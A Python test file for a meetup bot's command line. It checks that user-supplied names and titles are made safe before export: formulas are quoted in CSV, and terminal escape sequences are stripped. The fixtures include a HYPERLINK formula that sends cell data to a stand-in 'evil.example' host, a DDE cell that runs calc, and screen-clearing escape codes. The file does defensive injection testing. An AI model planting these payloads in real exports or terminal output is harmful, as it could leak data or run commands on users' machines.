"""Hostile input, round 2: what chat users typed, printed by the command line.

Names and titles reach the host's spreadsheet (`meetup-bot attendees --format csv`) and the
organisers' terminal (`meetup-bot proposals`, `meetup-bot schedule`): formulas are quoted, and
escape sequences and control characters never get through. JSON stays exact.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from adapters.cli import main
from adapters.terminal_text import for_csv, for_terminal
from bot.chat.messages import ChatRef
from bot.proposals.model import Kind, Proposal, Status
from bot.rsvp.model import Person
from bot.store.store import Store
from tests.rsvp.conftest import CALENDAR

NOW = datetime(2027, 1, 10, 8, 0, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# Clears the screen, sets the window title, and hides the rest of the line in the same colour.
ESCAPES = "\x1b[2J\x1b]0;pwned\x07Eve\x1b[8m hidden\x1b[0m\x07\x00\x9b31m"
FORMULAS = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCarriage")


@pytest.fixture
def store_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Store:
    events = tmp_path / "events.yaml"
    events.write_text(CALENDAR, encoding="utf-8")
    for name in ("TELEGRAM_BOT_TOKEN", "SLACK_BOT_TOKEN", "DATABASE_URL", "PORT", "ANNOUNCE_CHATS"):
        monkeypatch.delenv(name, raising=False)
    db = tmp_path / "bot.sqlite3"
    monkeypatch.setenv("SQLITE_PATH", str(db))
    monkeypatch.setenv("EVENTS_FILE", str(events))
    store = Store(f"sqlite:///{db}")
    store.create()
    yield store  # type: ignore[misc]
    store.close()


def out_of(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    capsys.readouterr()
    assert main(list(args)) == 0
    return capsys.readouterr().out


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
    store_env: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    for n, name in enumerate(FORMULAS):
        store_env.rsvp.answer("open", Person("telegram", str(n), name, f"u{n}"), True, None, NOW)
    store_env.rsvp.answer("open", Person("telegram", "99", "=cmd|' /C calc'!A0", "-x"), True, None, NOW)

    rows = list(csv.DictReader(io.StringIO(out_of(capsys, "attendees", "open", "--format", "csv"))))
    names = [r["name"] for r in rows]
    assert names[0] == "'" + HYPERLINK
    assert all(name.startswith("'") for name in names), names
    assert rows[-1]["username"] == "'-x"
    # A name starting with a tab or CR is quoted too (and the control character is gone).
    assert "' Tab" in names and "' Carriage" in names
    # JSON is for programs: exact.
    listed = json.loads(out_of(capsys, "attendees", "open", "--format", "json"))
    assert [a["name"] for a in listed["attendees"]][: len(FORMULAS)] == list(FORMULAS)


def test_csv_and_json_of_a_name_full_of_escape_sequences(store_env: Store, capsys: pytest.CaptureFixture[str]) -> None:
    store_env.rsvp.answer("open", Person("telegram", "1", ESCAPES, "eve\x1b[1m"), True, None, NOW)
    text = out_of(capsys, "attendees", "open")
    assert "\x1b" not in text and "\x07" not in text and "\x00" not in text and "\x9b" not in text
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert (row["name"], row["username"]) == ("Eve hidden", "eve")
    assert json.loads(out_of(capsys, "attendees", "open", "--format", "json"))["attendees"][0]["name"] == ESCAPES


def test_proposals_table_strips_escapes_and_json_stays_exact(
    store_env: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    store_env.proposals.add(
        Proposal(0, Kind.TALK, Status.NEW, f"Talk {ESCAPES}", "telegram:7", NOW, speaker="Eve\x1b]8;;http://x\x07")
    )
    table = out_of(capsys, "proposals")
    assert not any((ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0 for c in table), repr(table)
    assert "Talk Eve hidden" in table
    rows = json.loads(out_of(capsys, "proposals", "--format", "json"))
    assert rows[0]["title"] == f"Talk {ESCAPES}"


def test_schedule_prints_chat_titles_without_escapes(store_env: Store, capsys: pytest.CaptureFixture[str]) -> None:
    store_env.subscribe(ChatRef("telegram", "-100", title="Group\x1b[2J\x1b]0;owned\x07 chat"))
    text = out_of(capsys, "schedule")
    assert "telegram:-100  (Group chat)" in text
    assert "\x1b" not in text and "\x07" not in text


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("plain", "plain"),
        ("a\x1b[31mred\x1b[0m", "ared"),
        ("bell\x07 and NUL\x00", "bell and NUL"),
        ("osc\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\", "osclink"),
        ("c1\x9b2J csi", "c1 csi"),
        ("bidi \u202eevil\u202c", "bidi evil"),
        ("tab\there", "tab here"),
        ("עברית ✅ émoji", "עברית ✅ émoji"),
    ],
)
def test_for_terminal(raw: str, shown: str) -> None:
    assert for_terminal(raw) == shown


@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "' =1"),
        ("\r=1", "' =1"),
        ("\x1b[0m=1+1", "'=1+1"),  # an escape in front does not hide the formula
        ("Ada Lovelace", "Ada Lovelace"),
        ("a=b", "a=b"),
        (None, ""),
    ],
)
def test_for_csv(raw: str | None, cell: str) -> None:
    assert for_csv(raw) == cell
